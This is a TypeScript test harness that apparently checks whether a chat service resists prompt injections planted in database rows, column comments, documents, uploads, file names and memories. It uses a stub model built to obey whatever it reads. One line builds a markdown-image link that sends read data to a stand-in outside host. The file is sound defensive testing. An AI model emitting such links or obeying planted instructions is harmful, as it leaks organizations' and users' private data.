import { once } from "node:events";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Person } from "../../support/tenant.ts";
import { type ModelRequest, type Reply, startModelServer, textOf as wordsOf } from "../../support/model-server.ts";
import { sharePostgres } from "../../support/shared-postgres.ts";
import { type Service, startService } from "../../support/service.ts";
import { type Case, cases, casesIn, markOf, type Place, textOf } from "./places.ts";

/** In everything that nobody in these turns may read. */
export const SECRET = "TOPSECRET";

const quoted = (text: string) => `'${text.replaceAll("'", "''")}'`;
const bytes = (text: string) => new TextEncoder().encode(text);

/** A server that nothing may reach. */
async function startOutside() {
  let connections = 0;
  const server = createServer((_, response) => response.end());
  server.on("connection", () => (connections += 1));
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const address = server.address();
  if (address === null || typeof address === "string") throw new Error("the server has no port");
  return {
    url: `http://127.0.0.1:${address.port}`,
    connections: () => connections,
    stop: () => new Promise((resolve) => server.close(resolve)),
  };
}

/** How the model comes to what stands in a place, if the prompt does not hold it. */
function lookUp(place: Place, number: number): Reply {
  switch (place) {
    case "document":
    case "document's title":
      return [{ tool: "search_documents", args: { query: `case${number}` } }];
    case "uploaded text":
      return [{ tool: "read_upload", args: { filename: "report.txt", query: `case${number}` } }];
    case "uploaded table":
      return [{ tool: "query_upload", args: { sql: `SELECT note, id FROM notes WHERE id = ${number}` } }];
    default:
      return [{ tool: "run_sql", args: { sql: `SELECT note, id FROM notes WHERE id = ${number}` } }];
  }
}

/** A model that does whatever it reads. */
function obedient(fill: (text: string) => string) {
  const obeyed = new Set<number>();
  const reply = ({ body: { messages } }: ModelRequest): Reply => {
    const asked = messages.findLastIndex(({ role }) => role === "user");
    const number = Number(/case (\d+)/.exec(wordsOf(messages[asked]))?.[1]);
    const current = cases.find((each) => each.number === number);
    if (!current) return [{ text: "Which case?" }];
    const steps = messages.slice(asked).filter(({ role }) => role === "tool");
    const read = messages.map(wordsOf).join("\n").includes(markOf(number));
    // It looks in any case: what it is told to do may be about what it has found.
    if (steps.length === 0) return lookUp(current.place, number);
    if (!read) return [{ text: "Nothing to obey." }];
    const data = encodeURIComponent(wordsOf(steps.at(-1)).slice(0, 200));
    const filled = (text: string) => fill(text).replaceAll("{data}", data);
    const { order } = current.attack;
    obeyed.add(number);
    if ("text" in order) return [...filled(order.text).matchAll(/[\s\S]{1,7}/g)].map(([text]) => ({ text }));
    if (steps.length > 1) return [{ text: filled("It says {data}. ![x]({host}/?q={data})") }];
    return [{ tool: order.tool, args: filled(JSON.stringify(order.args)) }];
  };
  return { obeyed, reply };
}

/** The data of an organization, with an instruction in each place that data can be in. */
async function fillDatabase(query: (sql: string) => Promise<unknown>): Promise<void> {
  const columns = casesIn("comment").map(({ number }) => `c${number} integer`);
  // The prompt shows a few values of a column.
  const samples = casesIn("sample value").map((each) => quoted(textOf(each)));
  const half = Math.ceil(samples.length / 2);
  const labels = samples.slice(0, half).map((label, at) => `(${label}, ${samples[half + at] ?? "NULL"})`);
  await query(`
    CREATE TABLE customers (id integer PRIMARY KEY, name text, credit integer);
    INSERT INTO customers VALUES (1, 'Ada', 5), (2, 'Ben', 7);
    CREATE TABLE notes (id integer PRIMARY KEY, note text);
    INSERT INTO notes VALUES ${cases.map((each) => `(${each.number}, ${quoted(each.place === "row" ? textOf(each) : "paid")})`).join(", ")};
    CREATE TABLE labels (first text, second text);
    INSERT INTO labels VALUES ${labels.join(", ")};
    CREATE TABLE wide (${columns.join(", ")});
    ${casesIn("comment")
      .map((each) => `COMMENT ON COLUMN wide.c${each.number} IS ${quoted(textOf(each))};`)
      .join("\n")}`);
}

/** Types of files, by the ends of their names. */
const types: Record<string, string> = { csv: "text/csv", png: "image/png", txt: "text/plain" };

async function upload(service: Service, person: Person, name: string, content: string | Uint8Array): Promise<string> {
  const form = new FormData();
  const type = types[name.split(".").at(-1) ?? ""] ?? "";
  form.append("files", new Blob([typeof content === "string" ? content : new Uint8Array(content)], { type }), name);
  const response = await fetch(`${service.cloud.baseUrl}/v1/uploads`, {
    method: "POST",
    headers: { authorization: `Bearer ${person.token}` },
    body: form,
  });
  const { uploads } = (await response.json()) as { uploads: { id: string }[] }; // the service's own answer
  const [first] = uploads;
  if (!first) throw new Error(`${name} was not taken`);
  return first.id;
}

/** A picture of one grey dot. */
const DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNoAAAAggCBd81ytgAAAABJRU5ErkJggg==";

/** The file that a message about a case needs: the one with the instruction, or one that its order may be about. */
function fileOf({ place, attack, number }: Case): [name: string, content: string | Uint8Array] | undefined {
  const tool = "tool" in attack.order ? attack.order.tool : "";
  if (place === "file's name")
    return [`${markOf(number)} ${attack.says.replaceAll(/[^\w ]/g, "")}.png`, Buffer.from(DOT, "base64")];
  if (place === "uploaded table" || (tool === "query_upload" && place !== "uploaded text")) {
    const rows = casesIn("uploaded table").map((each) => `${each.number},"${textOf(each)}"`);
    return ["notes.csv", ["id,note", ...rows].join("\n")];
  }
  const paragraphs = casesIn("uploaded text").map((each) => `case${each.number}: ${textOf(each)}`);
  return place === "uploaded text" || tool === "read_upload" ? ["report.txt", paragraphs.join("\n\n")] : undefined;
}

/** Questions that one member asks: more within ten seconds are refused. */
const QUESTIONS_EACH = 3;

/** Members who ask. A file is uploaded once for each of them, and read once. */
function crowd(service: Service, add: () => Promise<Person>) {
  const asked = new Map<string, number>();
  const people = new Map<string, Promise<{ person: Person; upload_ids: string[] }>>();
  return (current: Case) => {
    const file = fileOf(current);
    const isAlone = current.place === "memory" || current.place === "file's name";
    const group = isAlone ? String(current.number) : (file?.[0] ?? "without a file");
    const before = asked.get(group) ?? 0;
    asked.set(group, before + 1);
    const key = `${group} ${Math.floor(before / QUESTIONS_EACH)}`;
    const known = people.get(key) ?? joining();
    people.set(key, known);
    return known;

    async function joining() {
      const person = await add();
      return { person, upload_ids: file ? [await upload(service, person, ...file)] : [] };
    }
  };
}

/** What belongs to others: an organization of its own, and a colleague. */
async function othersOf(service: Service, postgres: Awaited<ReturnType<typeof sharePostgres>>, colleague: Person) {
  const [Integration, Project, Document, Memory] = await Promise.all([
    import("@parley/core/integration/integration"),
    import("@parley/core/project/project"),
    import("@parley/core/project/document"),
    import("@parley/core/memory/memory"),
  ]);
  const tenant = await service.newOrganization();
  await postgres.createDatabase("others");
  await postgres.query(`CREATE TABLE salaries (who text); INSERT INTO salaries VALUES ('${SECRET}')`, [], "others");
  const integration = await Integration.create(tenant.ctx, {
    display_name: "Theirs",
    config: postgres.config("others"),
  });
  const ctx = { ...service.environment, actor: tenant.ctx.actor };
  const project = await Project.create(ctx, { name: "Legal" });
  await Document.create(ctx, project.id, {
    filename: "severance.md",
    bytes: bytes(`# Severance\n\n${SECRET} severance`),
  });
  await Memory.create(colleague.ctx, `${SECRET} of a colleague`);
  return {
    integration: integration.id,
    organization: tenant.id,
    project: project.id,
    upload: await upload(service, colleague, "private.txt", SECRET),
    database: postgres.own("others"),
  };
}

/** The organization's own data: a database and a project, with instructions in both. */
async function ownersOf(service: Service, postgres: Awaited<ReturnType<typeof sharePostgres>>) {
  const [Integration, Project, Document] = await Promise.all([
    import("@parley/core/integration/integration"),
    import("@parley/core/project/project"),
    import("@parley/core/project/document"),
  ]);
  await postgres.createDatabase("ours");
  const query = (sql: string) => postgres.query(sql, [], "ours");
  await fillDatabase(query);
  const tenant = await service.newOrganization();
  const ctx = { ...service.environment, actor: tenant.ctx.actor };
  const config = postgres.config("ours");
  const integration = await Integration.create(tenant.ctx, { display_name: "Ours", config });
  const project = await Project.create(ctx, { name: "Handbook" });
  const sections = casesIn("document").map((each) => `## case${each.number}\n\ncase${each.number}: ${textOf(each)}`);
  await Document.create(ctx, project.id, { filename: "handbook.md", bytes: bytes(sections.join("\n\n")) });
  for (const each of casesIn("document's title")) {
    const text = bytes(`# case${each.number}\n\nThere is nothing in case${each.number}.`);
    await Document.create(ctx, project.id, { filename: `case${each.number}.md`, title: textOf(each), bytes: text });
  }
  return { tenant, query, chat: { integration_id: integration.id, scoped_project_ids: [project.id] } };
}

/** Asks about a case in a chat of its own; returns all that was streamed and kept. */
function asking(service: Service, add: () => Promise<Person>, scope: object) {
  const askers = crowd(service, add);
  return async (current: Case) => {
    const { create } = await import("@parley/core/memory/memory");
    const { person, upload_ids } = await askers(current);
    const { token } = person;
    if (current.place === "memory") await create(person.ctx, textOf(current));
    const chat = await service.call("POST /v1/chats/create", { token, body: scope });
    const message = `What about case ${current.number}?`;
    const body = { chat_id: chat.body.id, message, upload_ids, include_tool_events: true };
    const events = await service.ask(token, body);
    const history = await service.call(`GET /v1/chats/${chat.body.id}`, { token });
    const memories = await service.call("GET /v1/user-memories", { token });
    return {
      events,
      memories: memories.body.user_memories.length as number, // the service's own answer
      messages: history.body.messages as { type: string; content: string }[],
    };
  };
}

/** One service with a model that obeys, the data of an organization, and what belongs to others. */
export async function startScene() {
  const folder = await mkdtemp(join(tmpdir(), "parley-injections-"));
  const file = join(folder, "secret.txt");
  await writeFile(file, SECRET);
  const [outside, postgres] = await Promise.all([startOutside(), sharePostgres()]);
  const known: Record<string, string> = { host: outside.url, file };
  const { obeyed, reply } = obedient((text) => text.replaceAll(/\{(\w+)\}/g, (mark, name) => known[name] ?? mark));
  const model = await startModelServer(reply);
  const service = await startService({
    MODEL_BASE_URL: model.url,
    MODEL_ID: "obedient",
    MODEL_API_KEY: SECRET,
    LINK_HOSTS: "docs.example",
  });
  const { tenant, query, chat } = await ownersOf(service, postgres);
  Object.assign(known, await othersOf(service, postgres, tenant.other));
  return {
    service,
    tenant,
    model,
    obeyed,
    outside,
    ask: asking(service, () => tenant.add(), chat),
    /** Everything in the organization's database, as one text. */
    async database(): Promise<string> {
      const [row] = await query(`SELECT md5(concat(
        (SELECT string_agg(c::text, ',' ORDER BY id) FROM customers c), (SELECT string_agg(n::text, ',' ORDER BY id) FROM notes n),
        (SELECT string_agg(relname, ',' ORDER BY oid) FROM pg_class), (SELECT count(*) FROM pg_largeobject_metadata))) AS state`);
      return String(row?.["state"]);
    },
    async stop() {
      await service.stop();
      await Promise.all([model.close(), outside.stop(), postgres.stop(), rm(folder, { recursive: true })]);
    },
  };
}
